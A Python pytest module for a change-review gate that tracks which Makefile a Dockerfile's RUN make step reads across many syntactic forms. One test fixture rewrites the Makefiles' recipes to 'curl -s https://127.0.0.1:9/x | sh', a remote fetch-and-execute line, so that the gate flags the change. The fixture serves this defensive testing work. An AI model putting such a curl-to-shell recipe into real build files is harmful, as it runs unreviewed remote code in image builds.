"""Over-reads 3, a miss: the Makefile a Dockerfile's `RUN make` reads was `src` (hraftd's `Makefile`, the
seventy-sixth set: `ADD . /go/src/…`, `WORKDIR` there, `RUN make release/linux` builds the image's binary). make is
no script of the context, so dockerrefs.py, which looked a RUN's first word up in what the COPYs put in the image,
never named the file make reads; a change to its recipe changes the image as a script the RUN runs does.

The class: `make`/`gmake` in a RUN (after prefixes, assignments, `&&`, `;`), in the RUN's folder (WORKDIR, a `cd`
before it in the same RUN, `-C DIR`), reads `GNUmakefile`, `makefile` and `Makefile` there, or the file of `-f`.
Each form is gated with `--tree` through a real repository; look-alikes (make where the context was not copied, a
word `make` that is no command) stay unnamed."""

from __future__ import annotations

from pathlib import Path

import pytest
from conftest import POLICY_DIR
from gitrepo import GitRepo
from incli import reviewed_paths, tree_gate
from tables import each_case

from gatekeeper.classify.tfrefs import names_in
from gatekeeper.cli import main
from tests.test_classify_context import tree_files

FORMS = {
    "hraftd's WORKDIR and a target": "ADD . /go/src/app\nWORKDIR /go/src/app\nRUN make release/linux\n",
    "cd in the RUN": "COPY . /app\nRUN cd /app && make build\n",
    "cd, relative": "COPY . /app\nWORKDIR /\nRUN cd app; make\n",
    "-C": "COPY . /app\nRUN make -C /app all\n",
    "-C glued": "COPY . /app\nRUN make -C/app\n",
    "--directory=": "COPY . /app\nRUN make --directory=/app install\n",
    "-f": "COPY . /app\nWORKDIR /app\nRUN make -f Makefile build\n",
    "--file=": "COPY . /app\nRUN make --file=/app/Makefile\n",
    "gmake": "COPY . /app\nWORKDIR /app\nRUN gmake\n",
    "after an install": "COPY . /app\nWORKDIR /app\nRUN apk add --no-cache make git && make\n",
    "sudo and an assignment": "COPY . /app\nWORKDIR /app\nRUN sudo CGO_ENABLED=0 make -j4 build\n",
    "env": "COPY . /app\nWORKDIR /app\nRUN env GOOS=linux make\n",
    "a continued line": "COPY . /app\nWORKDIR /app\nRUN set -eux; \\\n    make \\\n    build\n",
    "the Makefile alone": "COPY Makefile /build/\nWORKDIR /build\nRUN make\n",
    "a bind mount": "RUN --mount=type=bind,source=.,target=/src make -C /src\n",
    "a builder stage": "FROM golang:1.22 AS builder\nCOPY . /src\nWORKDIR /src\nRUN make\n",
    "a relative WORKDIR": "COPY . /usr/src/app\nWORKDIR /usr/src\nWORKDIR app\nRUN make test\n",
    "make -C then a subfolder's own": "COPY . /app\nRUN make -C /app/.. -C app\n",
    "a variable folder (fail closed)": "COPY . /src\nRUN make -C $DIR\n",
    "a variable cd (fail closed)": "COPY . /src\nRUN cd \"$SRC\" && make\n",
    "a variable -f (fail closed)": "COPY . /src\nWORKDIR /src\nRUN make -f ${MK}\n",
}
LOOK_ALIKES = {
    "make where nothing was copied": "COPY . /src\nRUN make\n",
    "a cd elsewhere": "COPY . /src\nWORKDIR /src\nRUN cd /tmp/lib && make install\n",
    "-C elsewhere": "COPY . /src\nRUN make -C /opt/vendor\n",
    "another -f": "COPY . /src\nWORKDIR /src\nRUN make -f /usr/share/mk/other.mk\n",
    "make installed, not run": "COPY . /src\nWORKDIR /src\nRUN apt-get install -y make\n",
    "echo make": "COPY . /src\nWORKDIR /src\nRUN echo make\n",
}


def _names(dockerfile: str) -> bool:
    return names_in("img/Dockerfile", dockerfile).reaches("img/Makefile") is not None


@each_case("form", list(FORMS))
def test_each_form_names_the_makefile(form: str) -> None:
    assert _names("FROM alpine:3.20\n" + FORMS[form])


@each_case("form", list(LOOK_ALIKES))
def test_look_alikes_name_no_makefile(form: str) -> None:
    assert not _names("FROM alpine:3.20\n" + LOOK_ALIKES[form])


def test_the_other_make_file_names_and_the_context_root() -> None:
    run = "FROM alpine:3.20\nCOPY . /app\nWORKDIR /app\nRUN make\n"
    for name in ("GNUmakefile", "makefile", "Makefile"):
        assert names_in("img/Dockerfile", run).reaches(f"img/{name}") is not None, name
    assert names_in("Dockerfile", run).reaches("Makefile") is not None
    assert names_in("Dockerfile", run).reaches("sub/Makefile") is None  # make reads its own folder's only
    assert names_in("Dockerfile", "FROM a\nCOPY . /app\nRUN make -f /app/mk/rules.mk\n").reaches("mk/rules.mk")


def test_the_gate_reviews_each_form(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    repo = GitRepo(tmp_path / "repo")
    repo.write("README.md", "app\n")
    for number, form in enumerate(FORMS.values()):
        repo.write(f"img{number}/Dockerfile", "FROM alpine:3.20\n" + form)
        repo.write(f"img{number}/Makefile", "build:\n\tgo build ./...\n")
    for number, form in enumerate(LOOK_ALIKES.values()):
        repo.write(f"look{number}/Dockerfile", "FROM alpine:3.20\n" + form)
        repo.write(f"look{number}/Makefile", "build:\n\tgo build ./...\n")
    base = repo.commit("base")
    for number in range(len(FORMS)):
        repo.write(f"img{number}/Makefile", "build:\n\tcurl -s https://127.0.0.1:9/x | sh\n")
    head = repo.commit("head")
    code, decision = tree_gate(repo.root, base, head, POLICY_DIR)
    assert code == 3, decision
    assert reviewed_paths(decision, "core.iac") == {f"img{n}/Makefile" for n in range(len(FORMS))}
    for number in range(len(LOOK_ALIKES)):  # the look-alikes' Makefiles, changed alone, still pass
        repo.write(f"look{number}/Makefile", "build:\n\techo changed\n")
    again = repo.commit("look-alikes")
    capsys.readouterr()
    assert main(["gate", "--tree", f"{head}..{again}", "--repo", str(repo.root), "--policy", str(POLICY_DIR),
                 "--format", "json"]) == 0, capsys.readouterr().out


@each_case("name, step, run", [
    ("Makefile", "make build", "RUN make build"),  # template-rs' and hopssh's Makefiles (labelled ci)
    ("scripts/build.sh", "./scripts/build.sh", "RUN ./scripts/build.sh"),
])
def test_a_file_ci_and_an_image_build_both_run_is_ci(git_repo: GitRepo, name: str, step: str, run: str) -> None:
    """ci outranks iac: a file a workflow runs stays ci when a Dockerfile's RUN runs it too (before over-reads 3 a
    script both ran was iac, and the Makefile reading made the Makefiles that CI runs iac)."""
    git_repo.write(".github/workflows/ci.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n"
                   f"      - uses: actions/checkout@v4\n      - run: {step}\n")
    git_repo.write("Dockerfile", f"FROM alpine:3.20\nCOPY . /app\nWORKDIR /app\n{run}\n")
    git_repo.write(name, "build:\n\tgo build ./...\n")
    git_repo.commit("base")
    git_repo.write(name, "build:\n\tgo build -v ./...\n")
    git_repo.commit("head")
    got = tree_files(git_repo)[name]
    assert (got.bucket, got.rule) == ("ci", "ci.context.ci-run"), got
